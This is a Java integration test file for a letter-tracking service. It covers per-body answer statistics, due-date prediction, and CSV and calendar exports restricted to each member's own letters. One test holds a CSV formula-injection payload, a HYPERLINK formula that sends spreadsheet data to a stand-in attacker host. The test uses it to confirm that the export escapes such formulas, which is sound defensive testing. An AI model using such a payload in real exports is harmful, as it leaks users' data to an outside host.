package org.opora.correspondence;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.LocalDate;
import java.time.ZoneId;
import java.util.Date;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.opora.support.Api;
import org.opora.support.OporaIntegrationTest;
import org.springframework.beans.factory.annotation.Autowired;

import com.fasterxml.jackson.databind.JsonNode;

/** Staff see how each body answers; members export their letters and subscribe to their due dates. */
@OporaIntegrationTest
class LetterReportTest {

    @Autowired
    Api api;
    @Autowired
    TaskService taskService;

    @Test
    void staffSeeEachBodysOnTimeRateAndAverageAnswerTime() {
        String bodyId = body("Slow ministry " + UUID.randomUUID());
        String onTime = sentAndRegistered(bodyId, "On time", "2026-03-05");
        answer(onTime, "2026-03-25");
        String late = sentAndRegistered(bodyId, "Late", "2026-03-05");
        answer(late, "2026-04-15");
        sentAndRegistered(bodyId, "Waiting", "2026-03-05");

        // The waiting letter's answer is due on 6 April 2026: on that day it is not overdue yet, the next day it is.
        setToday(LocalDate.of(2026, 4, 6));
        assertThat(statisticsOf(bodyId).path("overdue").asInt()).isZero();
        setToday(LocalDate.of(2026, 4, 7));
        JsonNode row = statisticsOf(bodyId);

        assertThat(row.path("letters").asInt()).isEqualTo(3);
        assertThat(row.path("answered").asInt()).isEqualTo(2);
        assertThat(row.path("answeredOnTime").asInt()).isEqualTo(1);
        assertThat(row.path("onTimeRate").asDouble()).isEqualTo(0.5);
        // 20 and 41 days from registration to answer.
        assertThat(row.path("averageAnswerDays").asDouble()).isEqualTo(30.5);
        assertThat(row.path("overdue").asInt()).isEqualTo(1);
        assertThat(api.get("cso-a", "/api/letters/statistics").status()).isEqualTo(403);
    }

    @Test
    void aBodysObservedAnswerTimesShortenTheLikelyAnswerDate() {
        String bodyId = body("Quick ministry " + UUID.randomUUID());
        String timing = "/api/public-bodies/" + bodyId + "/letter-timing?requestKind=ANSWER&channel=ONLINE&sendOn=2026-03-02";
        assertThat(api.get("cso-a", timing).json().path("likelyAnswerBy").asText()).isEqualTo("2026-04-06");
        for (int i = 0; i < 3; i++) {
            answer(sentAndRegistered(bodyId, "Quick " + i, "2026-03-05"), "2026-03-15");
        }

        JsonNode advice = api.get("cso-a", timing + "&neededBy=2026-03-20").json();

        // Registered by 5 March; this body answers in 10 days: by 15 March, long before the lawful 6 April.
        assertThat(advice.path("answerDue").asText()).isEqualTo("2026-04-06");
        assertThat(advice.path("likelyAnswerBy").asText()).isEqualTo("2026-03-15");
        assertThat(advice.path("tooLate").asBoolean()).isFalse();
        assertThat(advice.path("explanation").toString()).contains("10 days on average");
    }

    @Test
    void membersExportTheirLettersAndSubscribeToTheirDueDates() {
        String bodyId = body("Ministry of culture " + UUID.randomUUID());
        String waiting = sentAndRegistered(bodyId, "Concert hall, rehearsals; Saturdays", "2026-03-05");

        Api.Response csv = api.get("cso-a", "/api/letters/export.csv");
        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.raw()).startsWith("id,body,subject").contains(waiting, "\"Concert hall, rehearsals; Saturdays\"");
        assertThat(api.get("cso-b", "/api/letters/export.csv").raw()).doesNotContain(waiting);

        Api.Response ics = api.get("cso-a", "/api/letters/calendar.ics");
        assertThat(ics.headers().getContentType().toString()).startsWith("text/calendar");
        String unfolded = ics.raw().replace("\r\n ", "");
        assertThat(unfolded).startsWith("BEGIN:VCALENDAR\r\n").contains("UID:letter-" + waiting + "@opora")
                .contains("DTSTART;VALUE=DATE:20260406").contains("Concert hall\\, rehearsals\\; Saturdays");
        assertThat(ics.raw().lines().allMatch(line -> line.getBytes(java.nio.charset.StandardCharsets.UTF_8).length <= 75)).isTrue();
        assertThat(api.get("cso-b", "/api/letters/calendar.ics").raw()).doesNotContain(waiting);
    }

    @Test
    void aSubjectWrittenAsAFormulaStaysTextInTheExport() {
        String bodyId = body("Ministry of sport " + UUID.randomUUID());
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")";
        String letter = sentAndRegistered(bodyId, formula, "2026-03-05");

        String csv = api.get("staff", "/api/letters/export.csv").raw();

        String row = csv.lines().filter(line -> line.startsWith(letter)).findFirst().orElseThrow();
        // A spreadsheet runs a cell starting with '=' as a formula; the apostrophe keeps it text.
        assertThat(row).contains(",\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK(");
    }

    /** The letters below were written and answered by 20 April 2026, whatever today is on the machine running the test. */
    @BeforeEach
    void onTwentiethOfApril2026() {
        setToday(LocalDate.of(2026, 4, 20));
    }

    private static void setToday(LocalDate day) {
        ClockUtil.setCurrentTime(Date.from(day.atTime(12, 0).atZone(ZoneId.of("Europe/Moscow")).toInstant()));
    }

    private JsonNode statisticsOf(String bodyId) {
        Api.Response response = api.get("staff", "/api/letters/statistics");
        assertThat(response.status()).isEqualTo(200);
        JsonNode row = null;
        for (JsonNode candidate : response.json()) {
            if (candidate.path("bodyId").asText().equals(bodyId)) {
                row = candidate;
            }
        }
        assertThat(row).as("the body's row").isNotNull();
        return row;
    }

    private String sentAndRegistered(String bodyId, String subject, String registeredOn) {
        Map<String, Object> letter = new HashMap<>();
        letter.put("bodyId", bodyId);
        letter.put("subject", subject);
        letter.put("topic", "culture");
        letter.put("requestKind", "ANSWER");
        String id = api.post("cso-a", "/api/letters", letter).json().path("letter").path("id").asText();
        complete(id, "SendLetter", Map.of("channel", "ONLINE", "sentOn", "2026-03-02"));
        complete(id, "RecordRegistration", Map.of("registrationNumber", "R-" + subject.length(), "registeredOn", registeredOn));
        return id;
    }

    private void answer(String id, String answeredOn) {
        complete(id, "RecordAnswer", Map.of("outcome", "answered", "answeredOn", answeredOn, "rating", "SATISFACTORY"));
    }

    private void complete(String letterId, String taskKey, Map<String, Object> fields) {
        String taskId = taskService.createTaskQuery().processInstanceBusinessKey(letterId).taskDefinitionKey(taskKey)
                .singleResult().getId();
        assertThat(api.post("cso-a", "/api/tasks/" + taskId + "/complete", fields).status()).isEqualTo(204);
    }

    private String body(String name) {
        Map<String, Object> body = new HashMap<>();
        body.put("name", name);
        body.put("kind", "MINISTRY");
        body.put("level", "REGIONAL");
        body.put("topics", List.of("culture"));
        return api.post("staff", "/api/public-bodies", body).json().path("id").asText();
    }
}
